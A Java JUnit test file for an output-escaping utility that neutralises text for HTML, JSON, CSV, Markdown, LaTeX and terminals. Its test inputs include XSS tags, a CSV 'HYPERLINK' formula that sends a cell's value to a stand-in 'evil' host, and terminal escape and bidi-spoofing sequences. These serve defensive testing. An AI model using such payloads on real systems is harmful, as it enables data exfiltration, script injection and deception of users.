package org.kindred.datasets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class EscapeTest {

    @Test
    void html_leavesNothingThatHtmlReads() {
        assertThat(Escape.html("<img src=x onerror='a(\"&\")'>"))
                .isEqualTo("&lt;img src=x onerror=&#39;a(&quot;&amp;&quot;)&#39;&gt;");
        assertThat(Escape.html("two\r\nlines\tand\u001b")).isEqualTo("two\nlines\tand\\u001b");
    }

    @Test
    void json_isTheSameValue_withoutTagsAndComments() throws Exception {
        List<String> texts =
                List.of("</script><b>", "<!--<script>", "-->", "]]>&amp;", "\u2028\u202e\u001b");
        String shown = Escape.json(Json.line(texts));
        assertThat(shown).doesNotContain("<", ">", "&", "\u2028", "\u202e", "\u001b");
        assertThat(Json.mapper().readValue(shown, String[].class)).containsExactlyElementsOf(texts);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                " =1+1",
                "\t=1+1",
                "\n=1+1",
                "\u00A0\u3000=1+1",
                "\u200B=1+1",
                "\u200B \t+1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM",
                "\uFE66\u0031"
            })
    void csv_aFormula_getsAQuoteMark(String text) {
        String cell = Escape.csv(text).replaceFirst("^\"", "");
        assertThat(cell).startsWith("'");
    }

    /** What a group is called in a file of completions that was made to harm. */
    @Test
    void csv_formulaBeforeALineBreak_getsAQuoteMark() {
        assertThat(Escape.csv("=HYPERLINK(\"http://evil/?\"&A1,\"ok\")\n."))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"ok\"\")\n.\"");
    }

    @Test
    void csv_formulaBehindALineBreakOrAnotherSeparator_getsAQuoteMark() {
        assertThat(Escape.csv("a\n=1")).isEqualTo("\"a\n'=1\"");
        assertThat(Escape.csv("a\r\n  =1")).isEqualTo("\"a\n  '=1\"");
        assertThat(Escape.csv("a;=1")).isEqualTo("\"a;'=1\"");
        assertThat(Escape.csv("\r=1")).isEqualTo("\\r=1"); // a text that begins with a backslash
        assertThat(Escape.csv("a\t=1")).isEqualTo("\"a\t'=1\"");
    }

    @Test
    void csv_whatIsNoFormula_staysAsItIs() {
        for (String text : List.of("", "a = b", "p_grpo", "1-2", "\u2013", "u\u00e9", "a+b@c")) {
            assertThat(Escape.csv(text)).isEqualTo(text);
        }
        assertThat(Escape.csv("a,\"b\"")).isEqualTo("\"a,\"\"b\"\"\"");
    }

    @Test
    void markdown_hasNoHtml_noBorder_noLink_noEmphasis_andOneLine() {
        assertThat(Escape.markdown("<script>alert(1)</script>"))
                .isEqualTo("&lt;script&gt;alert(1)&lt;/script&gt;");
        assertThat(Escape.markdown("a|b\nc")).isEqualTo("a\\|b\\\\nc");
        assertThat(Escape.markdown("![x](http://evil)")).isEqualTo("!\\[x\\](http:\\//evil)");
        assertThat(Escape.markdown("*a* `b` _c_ d_e")).isEqualTo("\\*a\\* \\`b\\` \\_c\\_ d_e");
    }

    @Test
    void latex_specialsAreTexts_onOneLine() {
        assertThat(Escape.latex("50 % of $x_1^2 & {a} #b ~ \\input{f}"))
                .isEqualTo(
                        "50 \\% of \\$x\\_1\\textasciicircum{}2 \\& \\{a\\} \\#b \\textasciitilde{}"
                                + " \\textbackslash{}input\\{f\\}");
        assertThat(Escape.latex("a\n\nb")).isEqualTo("a\\textbackslash{}n\\textbackslash{}nb");
        assertThat(Escape.latex("[1]")).isEqualTo("{}[1]"); // else an argument of \\ before it
    }

    @Test
    void terminal_showsWhatWouldSteerIt() {
        assertThat(Escape.terminal("\u001b]0;owned\u0007\r\u009b31m\u202efdp.exe\u2066\u200f"))
                .isEqualTo("\\u001b]0;owned\\u0007\\r\\u009b31m\\u202efdp.exe\\u2066\\u200f");
        assertThat(Escape.terminal("a\nkindred: all well")).isEqualTo("a\\nkindred: all well");
        assertThat(Escape.terminalLines("a\n\tb\r\n\u001b")).isEqualTo("a\n\tb\n\\u001b");
        assertThat(Escape.terminal("gr\u00fc\u00dfe \ud83d\ude00 \u4f60\u597d"))
                .isEqualTo("gr\u00fc\u00dfe \ud83d\ude00 \u4f60\u597d");
        assertThat(Escape.terminal("half \ud83d pair")).isEqualTo("half \\ud83d pair");
        assertThat(Escape.terminal(1, "a\nb", Path.of("c"))).containsExactly(1, "a\\nb", "c");
    }

    @Test
    void everyLanguage_readsAMegabyteInLinearTime() {
        List<UnaryOperator<String>> all =
                List.of(
                        Escape::html,
                        Escape::json,
                        Escape::csv,
                        Escape::markdown,
                        Escape::latex,
                        Escape::terminal);
        for (String part : List.of(" ", "\n", "\t", "\r", ";", "=", "_", "\\", "<", "\u3000")) {
            String text = part.repeat(1 << 20);
            assertTimeoutPreemptively(
                    Duration.ofSeconds(20),
                    () ->
                            assertThat(all)
                                    .allSatisfy(
                                            escape -> assertThat(escape.apply(text)).isNotEmpty()));
        }
    }
}
